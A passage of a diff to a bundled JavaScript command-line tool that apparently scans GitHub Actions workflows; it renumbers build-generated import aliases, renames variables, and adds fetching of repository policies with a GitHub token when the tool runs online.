     } catch {
       return void 0;
@@ -26045,11 +27015,11 @@ var BlobCache = class {
   set(sha, bytes) {
     if (!this.folder || !OBJECT_SHA_RE.test(sha)) return;
     try {
-      (0, import_node_fs10.mkdirSync)(this.folder, { recursive: true });
-      const file = (0, import_node_path10.join)(this.folder, sha);
+      (0, import_node_fs11.mkdirSync)(this.folder, { recursive: true });
+      const file = (0, import_node_path11.join)(this.folder, sha);
       const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
-      (0, import_node_fs10.writeFileSync)(temporary, bytes);
-      (0, import_node_fs10.renameSync)(temporary, file);
+      (0, import_node_fs11.writeFileSync)(temporary, bytes);
+      (0, import_node_fs11.renameSync)(temporary, file);
     } catch {
     }
   }
@@ -26383,8 +27353,8 @@ function chooseConfig(entries) {
 }
 
 // server/src/cli/sarif-dir.ts
-var import_node_fs11 = require("node:fs");
-var import_node_path11 = require("node:path");
+var import_node_fs12 = require("node:fs");
+var import_node_path12 = require("node:path");
 function safeNamePart(text) {
   let out = "";
   for (const char of text) out += /^[A-Za-z0-9._-]$/.test(char) ? char : "_";
@@ -26404,7 +27374,7 @@ function writeSarifDir(dir, origins, results) {
   const errors = [];
   if (origins.length === 0) return { files, errors };
   try {
-    (0, import_node_fs11.mkdirSync)(dir, { recursive: true });
+    (0, import_node_fs12.mkdirSync)(dir, { recursive: true });
   } catch (error) {
     return { files, errors: [`--sarif-dir: cannot create the folder: ${error instanceof Error ? error.message : String(error)}`] };
   }
@@ -26415,10 +27385,10 @@ function writeSarifDir(dir, origins, results) {
       continue;
     }
     const name = sarifFileName(origin, taken);
-    const file = (0, import_node_path11.join)(dir, name);
-    const temporary = (0, import_node_path11.join)(dir, `.${name}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`);
+    const file = (0, import_node_path12.join)(dir, name);
+    const temporary = (0, import_node_path12.join)(dir, `.${name}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`);
     try {
-      (0, import_node_fs11.writeFileSync)(
+      (0, import_node_fs12.writeFileSync)(
         temporary,
         formatSarif(
           results.filter((result) => result.origin?.label === origin.label),
@@ -26426,10 +27396,10 @@ function writeSarifDir(dir, origins, results) {
         ),
         { flag: "wx" }
       );
-      (0, import_node_fs11.renameSync)(temporary, file);
+      (0, import_node_fs12.renameSync)(temporary, file);
       files.push(file);
     } catch (error) {
-      (0, import_node_fs11.rmSync)(temporary, { force: true });
+      (0, import_node_fs12.rmSync)(temporary, { force: true });
       errors.push(`--sarif-dir: cannot write ${name}: ${error instanceof Error ? error.message : String(error)}`);
     }
   }
@@ -26437,12 +27407,12 @@ function writeSarifDir(dir, origins, results) {
 }
 
 // server/src/cli/workspace.ts
-var import_node_path12 = require("node:path");
+var import_node_path13 = require("node:path");
 function ownRoot(path) {
-  const normalized = path.split(import_node_path12.sep).join("/");
+  const normalized = path.split(import_node_path13.sep).join("/");
   const match = /^(.*)\/\.github\/(?:workflows\/[^/]+|dependabot\.ya?ml)$/i.exec(normalized);
   if (!match) return null;
-  return match[1] === "" ? "/" : match[1].split("/").join(import_node_path12.sep);
+  return match[1] === "" ? "/" : match[1].split("/").join(import_node_path13.sep);
 }
 function takesPartInCalls(file) {
   if (file.kind === "action" || file.action) return true;
@@ -26454,7 +27424,7 @@ function mayUseLocal(text) {
 }
 function inside(root, path) {
   if (path === root) return true;
-  const prefix = root.endsWith(import_node_path12.sep) ? root : root + import_node_path12.sep;
+  const prefix = root.endsWith(import_node_path13.sep) ? root : root + import_node_path13.sep;
   return path.startsWith(prefix);
 }
 function buildWorkspaces(parsed, cwd) {
@@ -26474,7 +27444,7 @@ function buildWorkspaces(parsed, cwd) {
       key = `virtual:${target.virtual.origin.label}`;
       root = "";
     } else {
-      const own = ownRoot(target.path) ?? sortedRoots.find((candidate) => inside(candidate, (0, import_node_path12.dirname)(target.path))) ?? target.rootPath;
+      const own = ownRoot(target.path) ?? sortedRoots.find((candidate) => inside(candidate, (0, import_node_path13.dirname)(target.path))) ?? target.rootPath;
       key = `disk:${own}`;
       root = displayPath(own, cwd);
     }
@@ -26526,7 +27496,7 @@ Try '${TOOL_NAME} --help' for more information.
   const specs = [];
   for (const [index2, given] of options.paths.entries()) {
     const firstPart = given.split(/[\\/]/)[0];
-    if (given === STDIN_PATH || index2 >= options.pathsBeforeDashDash || existsOnDisk((0, import_node_path13.resolve)(io.cwd, given)) || firstPart !== "" && existsOnDisk((0, import_node_path13.resolve)(io.cwd, firstPart))) {
+    if (given === STDIN_PATH || index2 >= options.pathsBeforeDashDash || existsOnDisk((0, import_node_path14.resolve)(io.cwd, given)) || firstPart !== "" && existsOnDisk((0, import_node_path14.resolve)(io.cwd, firstPart))) {
       localPaths.push(given);
       continue;
     }
@@ -26571,9 +27541,9 @@ Try '${TOOL_NAME} --help' for more information.
   };
   let globalConfig = null;
   if (options.config !== void 0) {
-    const path = (0, import_node_path13.resolve)(io.cwd, options.config);
+    const path = (0, import_node_path14.resolve)(io.cwd, options.config);
     try {
-      (0, import_node_fs12.readFileSync)(path);
+      (0, import_node_fs13.readFileSync)(path);
     } catch (error) {
       io.stderr.write(
         `${TOOL_NAME}: error: --config ${escapeText(options.config)}: ${escapeText(error instanceof Error ? error.message : String(error))}
@@ -26604,7 +27574,7 @@ Try '${TOOL_NAME} --help' for more information.
       }
       return choice2;
     }
-    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path13.dirname)(target.path);
+    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path14.dirname)(target.path);
     let found2 = foundByFolder.get(start);
     if (found2 === void 0) {
       const scannedRoot = target.path === STDIN_PATH ? io.cwd : target.rootPath;
@@ -26634,7 +27604,7 @@ Try '${TOOL_NAME} --help' for more information.
 `);
   let hostChoice;
   const hostsOnce = () => hostChoice ??= chooseCliHosts(options, io.env, readUserConfig(userConfigPath(io.env)), note);
-  const cacheDir = options.cacheDir !== void 0 ? (0, import_node_path13.resolve)(io.cwd, options.cacheDir) : defaultCliCacheDir(io.env);
+  const cacheDir = options.cacheDir !== void 0 ? (0, import_node_path14.resolve)(io.cwd, options.cacheDir) : defaultCliCacheDir(io.env);
   if (remoteWanted) {
     const hosts = hostsOnce();
     remote = await scanRemote(specs, options.orgs, {
@@ -26649,6 +27619,7 @@ Try '${TOOL_NAME} --help' for more information.
     targets3.push(...remote.targets);
   }
   let online = false;
+  let policies = /* @__PURE__ */ new Map();
   let dependencies;
   let lockData;
   if (wantsOnline(options, io.env)) {
@@ -26662,7 +27633,7 @@ Try '${TOOL_NAME} --help' for more information.
       io.env,
       targets3,
       note,
-      options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path13.resolve)(io.cwd, options.cacheDir) } : {},
+      options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path14.resolve)(io.cwd, options.cacheDir) } : {},
       {
         followDependencies: options.followDependencies,
         followFor: (target) => configFor(target).config?.followDependencies !== false,
@@ -26672,16 +27643,20 @@ Try '${TOOL_NAME} --help' for more information.
     );
     online = snapshot !== void 0;
     useOnlineSnapshot(snapshot);
+    if (online) {
+      const token = io.env.GITHUB_TOKEN || io.env.GH_TOKEN || void 0;
+      policies = await cliRepositoryPolicies(hosts, token, targets3, (target) => configFor(target).config?.policyRepository, note);
+    }
   } else {
     useOnlineSnapshot(void 0);
   }
   useDependencies(dependencies);
-  const reads = /* @__PURE__ */ new Map();
+  const reads2 = /* @__PURE__ */ new Map();
   const parsedFiles = /* @__PURE__ */ new Map();
   for (const target of targets3) {
     if (target.path === STDIN_PATH) continue;
     const read = readTargetOf(target);
-    reads.set(target, options.fix || !read.ok || !("text" in read) ? read : { ok: true, text: read.text });
+    reads2.set(target, options.fix || !read.ok || !("text" in read) ? read : { ok: true, text: read.text });
     if (!read.ok || !("text" in read)) continue;
     const text = read.text;
     if (target.kind === "action" || target.kind === "workflow" && (text.includes("workflow_call") || mayUseLocal(text))) {
@@ -26704,9 +27679,9 @@ Try '${TOOL_NAME} --help' for more information.
       changedFiles++;
       fixReports.push(`${result.displayPath}: ${result.describe}`);
       if (options.dryRun) {
-        const report2 = unifiedDiffReport(result.before, result.after, `a/${result.displayPath}`, `b/${result.displayPath}`);
-        diff += report2.text;
-        if (report2.escaped) escapedDiffs.push(result.displayPath);
+        const report4 = unifiedDiffReport(result.before, result.after, `a/${result.displayPath}`, `b/${result.displayPath}`);
+        diff += report4.text;
+        if (report4.escaped) escapedDiffs.push(result.displayPath);
       }
     }
   }
@@ -26717,7 +27692,9 @@ Try '${TOOL_NAME} --help' for more information.
     const configured = optionsWithConfig(base2, choice.config, relative6, overrides);
     const current = target;
     const workspace = workspaces.get(target);
-    const withWorkspace = workspace ? { ...configured, views: { ...configured.views, workspace } } : configured;
+    const policy = policies.get(target);
+    const withPolicy = policy ? { ...configured, views: { ...configured.views, policy: available(policy) } } : configured;
+    const withWorkspace = workspace ? { ...withPolicy, views: { ...withPolicy.views, workspace } } : withPolicy;
     const withLock = (text) => current.path === STDIN_PATH ? withWorkspace : {
       ...withWorkspace,
       views: {
@@ -26738,8 +27715,8 @@ Try '${TOOL_NAME} --help' for more information.
         };
       }
     } else {
-      read = reads.get(target) ?? readTargetOf(target);
-      reads.delete(target);
+      read = reads2.get(target) ?? readTargetOf(target);
+      reads2.delete(target);
     }
     if (target.kindFromContent && read.ok && "text" in read) {
       const content = kindOfContent(read.text);
@@ -26761,9 +27738,9 @@ Try '${TOOL_NAME} --help' for more information.
           changedFiles++;
           fixReports.push(`${target.displayPath}: ${fixed.describe}`);
           if (options.dryRun) {
-            const report2 = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
-            diff += report2.text;
-            if (report2.escaped) escapedDiffs.push(target.displayPath);
+            const report4 = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
+            diff += report4.text;
+            if (report4.escaped) escapedDiffs.push(target.displayPath);
             read = { ok: true, text: fixed.text };
           } else {
             try {
@@ -26807,7 +27784,7 @@ Try '${TOOL_NAME} --help' for more information.
   sortResults(results);
   if (options.fix) {
     const verb = options.dryRun ? "would fix" : "fixed";
-    for (const report2 of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report2)}
+    for (const report4 of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report4)}
 `);
     for (const path of escapedDiffs) {
       io.stderr.write(
@@ -26828,7 +27805,7 @@ Try '${TOOL_NAME} --help' for more information.
     );
   }
   if (options.sarifDir !== void 0 && remote) {
-    const written = writeSarifDir((0, import_node_path13.resolve)(io.cwd, options.sarifDir), remote.origins, results);
+    const written = writeSarifDir((0, import_node_path14.resolve)(io.cwd, options.sarifDir), remote.origins, results);
     errors.push(...written.errors);
     if (written.files.length > 0)
       note(`wrote ${written.files.length} SARIF ${written.files.length === 1 ? "file" : "files"} into ${options.sarifDir}`);
@@ -26945,7 +27922,7 @@ function isCi(env) {
 }
 function existsOnDisk(path) {
   try {
-    (0, import_node_fs12.lstatSync)(path);
+    (0, import_node_fs13.lstatSync)(path);
     return true;
   } catch {
     return false;
@@ -26961,7 +27938,7 @@ function main(argv) {
   });
 }
 async function readStdin() {
-  if ((0, import_node_fs12.fstatSync)(0).isDirectory()) throw Object.assign(new Error("standard input is a folder"), { code: "EISDIR" });
+  if ((0, import_node_fs13.fstatSync)(0).isDirectory()) throw Object.assign(new Error("standard input is a folder"), { code: "EISDIR" });
   const chunks = [];
   for await (const chunk of process.stdin) chunks.push(typeof chunk === "string" ? Buffer.from(chunk) : chunk);
   return Buffer.concat(chunks);
